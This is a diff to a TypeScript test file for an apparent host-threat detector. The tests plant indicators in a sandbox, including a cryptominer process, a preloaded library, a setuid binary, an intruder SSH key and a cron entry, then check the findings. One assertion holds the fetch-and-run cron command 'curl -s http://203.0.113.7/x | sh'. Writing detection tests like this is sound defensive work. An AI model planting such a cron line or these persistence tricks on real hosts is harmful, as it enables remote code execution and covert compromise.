@@ -6,7 +6,6 @@ import type { Server, Socket } from 'node:net';
 import { connect, createServer } from 'node:net';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { waitFor } from '../daimon/run-helpers.js';
 import type { CliEvent } from './sandbox.js';
 import { hasTool, loadBuiltin, ruleMatches, ruleOf, runAgentCli, runCollector, sandbox, startSleeper, stopChild } from './sandbox.js';
 
@@ -57,6 +56,7 @@ afterAll(async () => {
   box.cleanup();
 });
 
+const NOVELTY_RULES = ['new-setuid-binary', 'new-setgid-binary', 'new-authorized-key', 'new-cron-entry'];
 const summary = (f: CliEvent) => ({ severity: f.severity, title: f.title, resource: f.resource });
 const byTitle = (a: { title: unknown }, b: { title: unknown }) => String(a.title).localeCompare(String(b.title));
 
@@ -94,10 +94,11 @@ describe('instance-threat through the CLI', () => {
       { severity: 'HIGH', title: 'Connection to a cryptomining pool port', resource: `ip:127.0.0.1:${port}, port:${port}` },
       { severity: 'MEDIUM', title: 'Listener on a cryptomining pool port', resource: `port:${port}, address:127.0.0.1:${port}` },
       { severity: 'HIGH', title: 'Library preloaded into every process', resource: `path:${join(box.dir, 'ld.so.preload')}, library:/usr/lib/libhide.so` },
-      ...(hasTool('ps') ? [{ severity: 'HIGH', title: 'Cryptominer process running', resource: `process:${minerName}, pid:${miner?.pid}, user:${process.env.USER ?? expect.any(String)}` }] : []),
+      ...(hasTool('ps')
+        ? [{ severity: 'HIGH', title: 'Cryptominer process running', resource: expect.stringMatching(new RegExp(`^process:${minerName}, pid:${miner?.pid}, user:\\S+$`)) as unknown }]
+        : []),
     ];
-    const got = r.findings.map(summary).sort(byTitle);
-    expect(got).toEqual(expected.sort(byTitle).map((e) => (e.title === 'Cryptominer process running' ? { ...e, resource: expect.stringMatching(new RegExp(`^process:${minerName}, pid:${miner?.pid}, user:\\S+$`)) } : e)));
+    expect(r.findings.map(summary).sort(byTitle)).toEqual(expected.sort(byTitle));
   });
 
   it('then reports the setuid bit, the authorized key and the cron entry added since, and nothing after that', async () => {
@@ -107,14 +108,19 @@ describe('instance-threat through the CLI', () => {
     const second = await runAgentCli('instance-threat', inputs(), join(box.dir, 'state'), box.policy);
     expect(second.code, second.stderr).toBe(0);
     const keyId = hasTool('ssh-keygen') ? intruder.fingerprint : `blob:${intruder.blob.replace(/=+$/, '').slice(-43)}`;
-    expect(second.findings.map(summary).sort(byTitle)).toEqual([
+    const novelty = (r: { findings: CliEvent[] }) => r.findings.filter((f) => NOVELTY_RULES.includes(String((f.attributes as { rule?: string }).rule)));
+    expect(novelty(second).map(summary).sort(byTitle)).toEqual([
       { severity: 'MEDIUM', title: 'New cron entry', resource: `path:${cron()}/backup` },
       { severity: 'HIGH', title: 'New SSH authorized key', resource: `file:${keys()}, key:${keyId}` },
       { severity: 'HIGH', title: 'New setuid binary', resource: `path:${suidDir()}/helper` },
-    ]);
+    ].sort(byTitle));
+    // Only the new cron line, not the one that was there before.
+    expect(novelty(second).find((f) => f.title === 'New cron entry')?.evidence).toEqual([expect.stringContaining('curl -s http://203.0.113.7/x | sh')]);
     const third = await runAgentCli('instance-threat', inputs(), join(box.dir, 'state'), box.policy);
     expect(third.code, third.stderr).toBe(0);
-    expect(third.findings).toEqual([]);
+    expect(novelty(third)).toEqual([]);
+    // A local run reports what the always-rules see every time (only scheduled ticks dedup).
+    expect(third.findings.map((f) => f.title)).toContain('Library preloaded into every process');
   });
 
   it('reports a process talking to a metadata address that is not a known cloud agent', async () => {
@@ -137,9 +143,10 @@ describe('instance-threat through the CLI', () => {
       const pid = child.pid ?? 0;
       const threat = loadBuiltin('instance-threat');
       let lines: string[] = [];
-      await waitFor(() => lines.some((l) => l.startsWith(`pid=${pid} `)), 15_000, 'the stratum process to be listed');
-      async function poll() { lines = (await runCollector(threat, 'miner_processes', { miner_names: [] })).lines; }
-      await poll();
+      const deadline = Date.now() + 15_000;
+      while (!lines.some((l) => l.startsWith(`pid=${pid} `)) && Date.now() < deadline) {
+        lines = (await runCollector(threat, 'miner_processes', { miner_names: [] })).lines;
+      }
       expect(ruleMatches(ruleOf(threat, 'miner-process'), lines).filter((m) => m.pid === String(pid))).toEqual([
         expect.objectContaining({ why: 'stratum-url', comm: 'sh', args: expect.stringContaining('stratum+tcp://pool.invalid:3333') }),
       ]);
